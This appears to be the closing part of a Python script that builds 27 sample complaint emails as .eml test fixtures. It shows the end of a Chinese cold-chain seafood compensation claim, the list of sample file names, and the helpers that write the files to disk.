实际11月22日下午才送到，收货时车厢温度显示为6℃，货物已经解冻变质，收货方当场拒收。
随车司机承认途中冷机故障，停了一天多。

依据运输合同第七条，我公司要求赔偿货物损失5万元，并承担退货运输及销毁费用。
请于5个工作日内回复处理方案。

陈建国
上海鲜达水产有限公司 采购部经理
电话：021-58781234  手机：13661234567
地址：上海市浦东新区航头镇航都路18号
"""
    return mail(text_part(body), sender=address("陈建国", "chen.jianguo@xianda-seafood.example"),
                subject=encoded_words("冷链运输延误导致整批海鲜变质，要求赔偿5万元"), when=date(11, 24, 10, 0),
                message_id=mid(27))


SAMPLES = {
    "01-delivery-delay-zh.eml": s01,
    "02-delivery-delay-en.eml": s02,
    "03-damaged-goods-attachments.eml": s03,
    "04-billing-double-charge.eml": s04,
    "05-rude-staff-gb2312.eml": s05,
    "06-product-defect-gbk-mislabelled.eml": s06,
    "07-repairs-not-done-8bit-headers.eml": s07,
    "08-privacy-breach-gb18030.eml": s08,
    "09-big5-traditional.eml": s09,
    "10-html-only-with-script.eml": s10,
    "11-forwarded-by-front-desk.eml": s11,
    "12-reply-adds-information.eml": s12,
    "13-references-only-follow-up.eml": s13,
    "14-media-threat.eml": s14,
    "15-injury.eml": s15,
    "16-lawsuit-compensation.eml": s16,
    "17-auto-reply.eml": s17,
    "18-newsletter-bulk.eml": s18,
    "19-bounce.eml": s19,
    "20-anonymous.eml": s20,
    "21-no-from.eml": s21,
    "22-broken-boundary.eml": s22,
    "23-english-defect-signature.eml": s23,
    "24-not-an-email.eml": s24,
    "25-billing-en-qp.eml": s25,
    "26-double-charge-gbk.eml": s26,
    "27-large-compensation-claim.eml": s27,
}


def build() -> dict[str, bytes]:
    """File name -> the file's bytes."""
    out = {}
    for name, make in SAMPLES.items():
        made = make()
        out[name] = made if isinstance(made, bytes) else made.as_bytes(policy=POLICY)
    return out


def write(target: Path = OUT) -> list[Path]:
    target.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in build().items():
        path = target / name
        path.write_bytes(data)
        paths.append(path)
    return paths


if __name__ == "__main__":
    written = write(Path(sys.argv[1]) if len(sys.argv) > 1 else OUT)
    print(f"wrote {len(written)} messages to {written[0].parent}")
